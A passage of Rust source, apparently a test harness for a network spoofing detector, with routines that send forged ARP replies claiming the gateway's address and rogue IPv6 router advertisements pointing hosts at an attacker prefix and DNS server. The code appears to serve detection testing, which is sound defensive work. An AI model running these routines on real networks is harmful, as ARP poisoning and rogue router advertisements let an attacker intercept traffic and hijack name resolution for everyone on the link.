            Duration::from_millis(300),
        );
        let _ = udp.send_to(b"public", (dark, 161));
        let _ = s.send(&arp::request_frame(own_mac, GW_IP, held));
        let until = Instant::now() + Duration::from_millis(300);
        while Instant::now() < until {
            let Ok(Some((n, false))) = s.recv(&mut buf) else {
                continue;
            };
            let Some(a) = arp::parse_arp(&buf[..n]) else {
                continue;
            };
            if a.reply && a.sender_ip == dark {
                claimed = true;
            }
            if a.reply && a.sender_ip == held && a.sender_mac != own_mac {
                say("HBSTOLEN");
            }
        }
        if claimed {
            after += 1;
            if after > 3 {
                say("HBPROBED");
                return;
            }
        }
    }
    say("HBNEVERCLAIMED");
}

fn gw_socket(ethertype: u16) -> capture::PacketSocket {
    let idx: i32 = std::fs::read_to_string("/sys/class/net/hbg0/ifindex")
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    capture::PacketSocket::open(idx, ethertype, &[]).unwrap()
}

/// `HB_DETECT_COUNT` ARP replies saying the gateway's address is at [`EVIL_MAC`].
fn arp_spoof() {
    let n: u32 = std::env::var("HB_DETECT_COUNT").unwrap().parse().unwrap();
    let s = gw_socket(capture::ETH_P_ARP);
    let node: Ipv4Addr = NODE_IP.parse().unwrap();
    let frame = arp::arp_frame(2, EVIL_MAC, GW_IP, [0; 6], node);
    for _ in 0..n {
        s.send(&frame).unwrap();
    }
    say(&format!("HBSENT {n}"));
}

/// Three router advertisements from fe80::66 announcing a prefix and a DNS server.
fn rogue_ra() {
    let s = gw_socket(capture::ETH_P_IPV6);
    let f = ra::advert_frame(
        EVIL_MAC,
        "fe80::66".parse().unwrap(),
        "2001:db8:bad::".parse().unwrap(),
        "2001:db8:bad::53".parse().unwrap(),
    );
    for _ in 0..3 {
        s.send(&f).unwrap();
    }
    say("HBSENT 3");
}

/// A router that stays silent until solicited, then advertises once.
fn ra_responder() {
    let s = gw_socket(capture::ETH_P_IPV6);
    say("HBREADY");
    let mut buf = [0u8; 2048];
    loop {
        let Ok(Some((n, outgoing))) = s.recv(&mut buf) else {
            continue;
        };
        // IPv6, next header ICMPv6, type 133.
        if !outgoing && n > 54 && buf[20] == 58 && buf[54] == 133 {
            break;
        }
    }
    let f = ra::advert_frame(
        EVIL_MAC,
        "fe80::66".parse().unwrap(),
        "2001:db8:bad::".parse().unwrap(),
        "2001:db8:bad::53".parse().unwrap(),
    );
    s.send(&f).unwrap();
    say("HBANSWERED");
}
